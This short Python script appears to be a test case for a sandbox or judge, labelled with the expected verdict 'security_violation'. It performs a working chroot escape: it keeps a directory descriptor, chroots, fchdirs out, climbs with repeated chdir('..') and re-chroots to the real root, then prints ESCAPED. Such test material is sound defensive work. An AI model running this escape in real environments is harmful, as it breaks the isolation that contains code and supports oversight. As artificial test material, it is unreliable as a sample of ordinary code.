# verdict: security_violation
import ctypes, json, os, sys, time
host = json.loads(sys.stdin.readline())
libc = ctypes.CDLL(None, use_errno=True)


def escaped():
    print("ESCAPED")
    sys.exit(0)


os.mkdir("/box/w/a"); fd = os.open(".", 0)
libc.chroot(b"/box/w/a"); os.fchdir(fd)
for i in range(64): os.chdir("..")
libc.chroot(b"."); escaped()
